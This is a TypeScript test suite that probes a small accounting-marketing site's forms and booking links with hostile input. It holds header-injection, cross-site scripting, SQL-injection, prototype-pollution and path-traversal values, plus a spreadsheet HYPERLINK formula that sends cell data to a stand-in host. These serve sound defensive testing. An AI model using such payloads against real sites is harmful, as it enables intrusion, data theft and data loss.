/** Hostile input for every address that accepts a form: it must be refused clearly or stored as plain text. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import { commandLine } from '../cli/testing/run-command.ts';

const siteUrl = inject('siteUrl');
const dataFolder = inject('dataFolder');

type Value = string | number | boolean | null | Value[] | { [name: string]: Value };
type Sent = Record<string, Value>;

const firm = {
  name: 'Lee Park',
  phone: '541 555 0142',
  firm_name: 'Park CPAs',
  firm_type: 'cpa',
  firm_size: '2-5',
};

/** Every form, with a valid answer and its free-text fields. */
const forms = [
  {
    path: '/contact',
    good: {
      name: 'Lee Park',
      phone: '',
      firm_name: '',
      topic: 'press',
      message: 'A question about your prices.',
    },
    lines: ['name', 'firm_name'],
    notes: ['message'],
    ruled: ['email', 'phone', 'topic', 'marketing_consent'],
  },
  {
    path: '/get-started',
    good: {
      ...firm,
      goals: ['time'],
      software: ['other'],
      software_other: 'Ledger',
      goals_note: '',
      website: '',
    },
    lines: ['name', 'firm_name', 'software_other'],
    notes: ['goals_note'],
    ruled: ['email', 'phone', 'website', 'slot', 'timezone', 'firm_type', 'firm_size', 'marketing_consent'],
  },
  {
    path: '/quick-start-marketing-for-cpa-firms',
    good: {
      ...firm,
      city: 'Bend',
      state: 'OR',
      website: '',
      years_in_business: '11-20',
      current_marketing: ['referrals'],
      start_when: 'now',
      budget_ok: 'talk',
      message: '',
    },
    lines: ['name', 'firm_name', 'city'],
    notes: ['message'],
    ruled: ['email', 'phone', 'website', 'firm_type', 'firm_size', 'state', 'start_when', 'budget_ok'],
  },
  {
    path: '/api/tools/roi-calculator/email',
    good: { name: '', 'in.leads': '15' },
    lines: ['name'],
    notes: [],
    ruled: ['email', 'in.leads', 'marketing_consent'],
  },
  { path: '/newsletter', good: {}, lines: [], notes: [], ruled: ['email'] },
] satisfies { path: string; good: Sent; lines: string[]; notes: string[]; ruled: string[] }[];

const names = ({ lines, notes, ruled }: { lines: string[]; notes: string[]; ruled: string[] }) => [
  ...lines,
  ...notes,
  ...ruled,
];

let count = 0;
const someone = () => `hostile${++count}@firm.example`;

interface Answer {
  status: number;
  headers: Headers;
  text: string;
  body: Record<string, unknown>;
}

async function post(
  path: string,
  body: string | URLSearchParams | FormData,
  headers: Record<string, string>,
) {
  const response = await fetch(siteUrl + path, { method: 'POST', redirect: 'manual', body, headers });
  const text = await response.text();
  const isJson = response.headers.get('content-type')?.includes('json');
  const answer: Answer = {
    status: response.status,
    headers: response.headers,
    text,
    body: isJson ? JSON.parse(text) : {},
  };
  expect(answer.headers.get('cache-control')).toContain('no-store');
  expect(answer.headers.get('x-request-id')).toBeTruthy();
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
  return answer;
}

const json = { accept: 'application/json', 'content-type': 'application/json' };
const postText = (path: string, text: string) => post(path, text, json);
const postJson = (path: string, value: Sent) => postText(path, JSON.stringify(value));

/** Posts like a browser. */
const postForm = (path: string, fields: Sent) =>
  post(
    path,
    new URLSearchParams([
      ['subject_line', ''],
      ...Object.entries(fields).flatMap(([name, value]) => [value].flat().map((one) => [name, String(one)])),
    ]),
    { accept: 'text/html' },
  );

function expectError({ status, body }: Answer, expected: [number, string], context = '') {
  expect([context, status, body.error]).toEqual([context, ...expected]);
  expect(body).toMatchObject({
    ok: false,
    message: expect.any(String),
    fieldErrors: expect.any(Object),
    formErrors: expect.any(Array),
    requestId: expect.any(String),
  });
}

const wrongFields = ({ body }: Answer) => Object.keys(body.fieldErrors ?? {});

const { command } = commandLine({ DATA_DIR: dataFolder });
const leads = async (...args: string[]) => (await command(args)).out;

const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** All are read by the same code, with other fields: one for people and one for programs, the others with `--all`. */
const tried = forms.filter(
  ({ path }) => process.env.TEST_ALL || path === '/contact' || path.startsWith('/api/'),
);

describe.each(tried)('$path', ({ path, good, lines, notes, ruled }) => {
  const all = names({ lines, notes, ruled });
  const filled = () => ({ ...good, email: someone() });

  test.each([
    ['a zero byte', 'a\0b'],
    ['an escape', 'a\u001b[31mb'],
    ['half a pair of surrogates', 'a\ud800b'],
    ['the other half', 'a\udfffb'],
  ])('%s is an error of its field', async (_, text) => {
    for (const field of all) {
      const answer = await postJson(path, { ...filled(), [field]: text });
      expectError(answer, [422, 'validation_failed'], field);
      expect(wrongFields(answer)).toEqual([field]);
    }
  });

  test('header injection fails in every single-line field', async () => {
    for (const break_ of ['\r\n', '\n', '\r', '\u0085']) {
      for (const field of [...lines, ...ruled]) {
        const answer = await postJson(path, { ...filled(), [field]: `Lee${break_}Bcc: all@evil.example` });
        expectError(answer, [422, 'validation_failed'], field);
        expect(wrongFields(answer)).toEqual([field]);
      }
    }
  });

  test('a field sent twice is an error of that field', async () => {
    for (const field of all) {
      const answer = await postJson(path, { ...filled(), [field]: ['one', 'two'] });
      expectError(answer, [422, 'validation_failed'], field);
      expect(wrongFields(answer)).toEqual([field]);
    }
  });

  test('an object in place of text is not a form', async () => {
    for (const field of all) {
      expectError(await postJson(path, { ...filled(), [field]: { $gt: '' } }), [400, 'malformed'], field);
      expectError(await postJson(path, { ...filled(), [field]: [['a']] }), [400, 'malformed'], field);
    }
  });

  test('a number or boolean is read as text', async () => {
    for (const value of [7, true, -0.5]) {
      for (const field of all) {
        const { status } = await postJson(path, { ...filled(), [field]: value });
        expect([200, 201, 422], field).toContain(status);
      }
    }
  });

  test.runIf(lines.length > 0)('ten thousand characters are too many, and are returned in full', async () => {
    const long = `${'x'.repeat(9_990)}END of it.`;
    for (const field of [...lines, ...notes]) {
      const answer = await postJson(path, { ...filled(), [field]: long });
      expectError(answer, [422, 'validation_failed'], field);
      expect(wrongFields(answer)).toEqual([field]);
      const page = await postForm(path, { ...filled(), [field]: long });
      expect([field, page.status]).toEqual([field, 422]);
      expect(page.text, field).toContain(long);
    }
  });

  test.runIf(lines.length > 0)('markup is returned escaped', async () => {
    const markup = `"'><script>alert(1)</script><img src=x onerror=alert(2)>{{price.setup}}</textarea></title>`;
    for (const field of [...lines, ...notes]) {
      const { status, text } = await postForm(path, { ...filled(), email: 'wrong', [field]: markup });
      expect([field, status]).toEqual([field, 422]);
      expect(text).not.toContain('<script>alert(1)');
      expect(text).not.toContain('<img src=x');
      expect(text).not.toContain('</textarea></title>');
      expect(text.replaceAll('&#x27;', "'"), field).toContain(escaped(markup));
    }
  });

  test.each([
    ['emoji', '🧾👩🏽‍💼 Ｌｅｄｇｅｒ 🇺🇸'],
    ['right to left', '‮עברית‬ شركة المحاسبة \u2067x\u2069'],
    ['combining marks', `Z${'\u0301'.repeat(60)}algo & Söhne`],
    ['markup', '<b onmouseover="alert(1)">Lee</b> & "Co" {{price.setup}} #{7*7} %0d%0aBcc:'],
    ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
    ['a statement', `Robert'); DROP TABLE lead;--`],
  ])('%s are stored unchanged', async (_, text) => {
    const fields: Sent = { ...filled() };
    for (const field of [...lines, ...notes]) fields[field] = text.padEnd(12, '.');
    const answer = await postJson(path, fields);
    expect([answer.body, answer.status]).toEqual([expect.objectContaining({ ok: true }), 201]);
    const shown = JSON.parse(await leads('show', String(answer.body.id)));
    const stored = text.padEnd(12, '.').normalize('NFC');
    // Names and addresses lose marks that would turn what is printed after them.
    for (const field of lines)
      expect(shown.lead.fields[field]).toBe(stored.replaceAll(/[\u202a-\u2069]/g, ''));
    for (const field of notes) expect(shown.lead.fields[field]).toBe(stored);
  });

  test('names with a special meaning in JavaScript are ordinary', async () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', '']) {
      const text = JSON.stringify({ ...filled(), zz: 'polluted' }).replace('"zz"', JSON.stringify(name));
      const answer = await postText(path, text);
      expect([name, answer.status]).toEqual([name, 201]);
      expect((await postForm(path, { ...filled(), [`${name}[polluted]`]: 'yes' })).status).toBe(303);
      if (name !== '') expect((await postForm(path, { ...filled(), [name]: 'yes' })).status).toBe(303);
    }
  });

  test('an object in place of a prototype is not a form', async () => {
    const text = JSON.stringify({ ...filled(), zz: { ok: true } }).replace('"zz"', '"__proto__"');
    expectError(await postText(path, text), [400, 'malformed']);
  });

  test.each([
    ['three thousand fields', Object.fromEntries(Array.from({ length: 3_000 }, (_, n) => [`f${n}`, '']))],
    ['one field three thousand times', { name: Array.from({ length: 3_000 }, () => 'a') }],
  ])('%s', async (_, fields) => {
    const isSmall = path.startsWith('/api/') || path === '/newsletter';
    const answer = await postJson(path, fields as Sent);
    expectError(answer, isSmall && answer.status === 413 ? [413, 'too_large'] : [400, 'malformed']);
    const few = { ...filled(), name: Array.from({ length: 201 }, () => 'a') };
    expect((await postForm(path, few)).status).toBe(400);
  });

  test.each([
    ['deep lists', '['.repeat(8_000)],
    ['deep lists that end', `${'['.repeat(4_000)}${']'.repeat(4_000)}`],
    ['deep objects', `${'{"a":'.repeat(1_300)}1${'}'.repeat(1_300)}`],
    ['a list', '[{"name":"Lee"}]'],
    ['null', 'null'],
    ['text', '"name"'],
    ['nothing', ''],
    ['half a body', '{"name":"L'],
    ['a byte order mark in the wrong place', '{\ufeff"name":"Lee"}'],
  ])('%s cannot be read as a form', async (_, text) => {
    expectError(await postText(path, text), [400, 'malformed']);
  });

  test.each([
    'text/plain',
    'application/xml',
    'text/html',
    'application/json; charset=utf-16',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'application/octet-stream',
    'multipart/mixed; boundary=x',
  ])('%s is refused', async (type) => {
    const answer = await post(path, 'name=Lee', { accept: 'application/json', 'content-type': type });
    expectError(answer, [415, 'unsupported_type']);
    expect((await post(path, 'name=Lee', { accept: 'text/html', 'content-type': type })).status).toBe(415);
  });

  test.each(['multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=x'])(
    '%s without a valid body is damaged',
    async (type) => {
      const answer = await post(path, 'name=Lee', { accept: 'application/json', 'content-type': type });
      expectError(answer, [400, 'malformed']);
    },
  );

  test('invalid UTF-8 is damaged', async () => {
    const answer = await post(path, 'name=%FF%FE', {
      accept: 'application/json',
      'content-type': 'application/x-www-form-urlencoded',
    });
    expectError(answer, [400, 'malformed']);
  });

  test('a file is refused', async () => {
    const body = new FormData();
    for (const [name, value] of Object.entries(filled())) body.append(name, String(value));
    body.append('name', new Blob(['MZ\0\x01']), '../../etc/passwd');
    expectError(await post(path, body, { accept: 'application/json' }), [422, 'validation_failed']);
    const page = await post(path, body, { accept: 'text/html' });
    expect([page.status, page.text.includes('This form takes no files')]).toEqual([422, true]);
  });

  test('more than the form may hold', async () => {
    const much = 'x'.repeat(70_000);
    const answer = await postJson(path, { ...filled(), name: much });
    expectError(answer, [413, 'too_large']);
    expect(answer.headers.get('connection')).toBe('close');
    expect((await postForm(path, { ...filled(), name: much })).status).toBe(413);
  });

  test('a forged token', async () => {
    for (const value of ['x', '\0', 'A'.repeat(3_000), '../..', '\u{1f9fe}', 'AA.1']) {
      expect([201, 422]).toContain((await postJson(path, { ...filled(), form_token: value })).status);
      expect([303, 422]).toContain((await postForm(path, { ...filled(), form_token: value })).status);
    }
    const list = { ...filled(), form_token: ['a', 'b'] };
    expect((await postJson(path, list)).status).toBe(201);
  });

  test('an invalid idempotency key', async () => {
    for (const key of ['short', 'with a space in it', 'x'.repeat(129)]) {
      const answer = await post(path, JSON.stringify(filled()), { ...json, 'idempotency-key': key });
      expectError(answer, [422, 'validation_failed']);
    }
  });

  test('a hostile landing page and source', async () => {
    const source = '?utm_source=%00%0d%0aBcc:&utm_medium=%ED%A0%80&utm_campaign=__proto__&__proto__=1';
    const headers = { ...json, referer: 'https://evil.example/"><script>\u00ff' };
    const answer = await post(`${path}${source}`, JSON.stringify(filled()), headers);
    expect(answer.status).toBe(201);
  });
});

describe('a call', () => {
  let place = '';
  beforeAll(async () => {
    const { days } = await (await fetch(`${siteUrl}/api/slots?days=31`)).json();
    const slots = (days as { slots: { start: string }[] }[]).flatMap((day) => day.slots);
    const slot = slots.at(-1)?.start ?? '';
    const form = forms.find(({ path }) => path === '/get-started');
    const answer = await postJson('/get-started', { ...form?.good, email: someone(), slot });
    const booking = answer.body.booking as { manageUrl: string } | null;
    place = new URL(booking?.manageUrl ?? siteUrl).pathname;
    expect([answer.status, place]).toEqual([201, expect.stringMatching(/^\/bookings\//)]);
  });

  const changes = [
    ['/reschedule', 'slot'],
    ['/reschedule', 'timezone'],
    ['/cancel', 'reason'],
  ] as const;

  test.each(changes)('%s with hostile values in "%s" leaves the call unchanged', async (change, field) => {
    const other = change === '/reschedule' ? { slot: '2031-01-01T17:00:00Z', timezone: 'UTC' } : {};
    for (const text of ['a\0b', 'a\ud800b', 'a\u001bb', 'x'.repeat(6_000), '\0']) {
      const answer = await postJson(place + change, { ...other, [field]: text });
      expectError(answer, [422, 'validation_failed'], JSON.stringify(text.slice(0, 9)));
      expect(wrongFields(answer)).toEqual([field]);
    }
    expectError(await postJson(place + change, { ...other, [field]: { a: 'b' } }), [400, 'malformed']);
    expectError(await postJson(place + change, { ...other, [field]: ['a', 'b'] }), [
      422,
      'validation_failed',
    ]);
    expectError(await postText(place + change, '['), [400, 'malformed']);
    expectError(await postJson(place + change, { [field]: 'x'.repeat(9_000) }), [413, 'too_large']);
    const plain = { accept: 'application/json', 'content-type': 'text/plain' };
    expectError(await post(place + change, 'a', plain), [415, 'unsupported_type']);
    const state = await fetch(siteUrl + place, { headers: { accept: 'application/json' } });
    expect(await state.json()).toMatchObject({ booking: { status: 'confirmed', sequence: 0 } });
  });

  test('a reason full of markup cancels, and is stored as text', async () => {
    const reason = '=1+1 <script>alert(1)</script> 🧾 ‮עברית\r\nBcc: all@evil.example';
    const answer = await postJson(`${place}/cancel`, { reason });
    expect([answer.status, answer.body]).toEqual([
      200,
      expect.objectContaining({ booking: expect.objectContaining({ status: 'cancelled' }) }),
    ]);
    expect((await fetch(siteUrl + place)).status).not.toBe(500);
  });

  test.each(['abc', 'a'.repeat(99), '__proto__', '%00', '..%2f..'])('a forged link "%s"', async (token) => {
    for (const change of ['/reschedule', '/cancel']) {
      const answer = await postJson(`/bookings/${token}${change}`, { reason: 'x', slot: '' });
      expect([400, 404, 405]).toContain(answer.status);
    }
  });
});

describe('stored input', () => {
  test('is not a formula in a spreadsheet', async () => {
    const table = await leads('export', '--limit', 'all');
    expect(table).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")`);
    expect(table).not.toMatch(/(^|,)"?[=@]/m);
    expect(table).not.toContain('\0');
  });

  test('is not a header of a mail', async () => {
    const mails = () => readdirSync(join(dataFolder, 'mail')).filter((name) => name.endsWith('.eml'));
    await expect.poll(() => mails().length, { timeout: 30_000 }).toBeGreaterThan(20);
    for (const name of mails()) {
      const [head = ''] = readFileSync(join(dataFolder, 'mail', name), 'utf8').split(/\r?\n\r?\n/);
      expect(head).not.toMatch(/^bcc:/im);
      expect(head).not.toContain('evil.example');
    }
  });

  test('is not markup in a mail', () => {
    for (const name of readdirSync(join(dataFolder, 'mail'))) {
      const text = readFileSync(join(dataFolder, 'mail', name), 'utf8').replaceAll(/=\r?\n/g, '');
      const html = text.slice(text.indexOf('text/html'));
      if (text.includes('text/html')) expect(html).not.toMatch(/<b onmouseover|<script/i);
    }
  });

  test('leaves pages unchanged and all counts readable', async () => {
    expect((await fetch(`${siteUrl}/contact`)).status).toBe(200);
    expect((await fetch(`${siteUrl}/readyz`)).status).toBe(200);
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
    expect(JSON.parse(await leads('list'))).toEqual(expect.any(Object));
  });
});
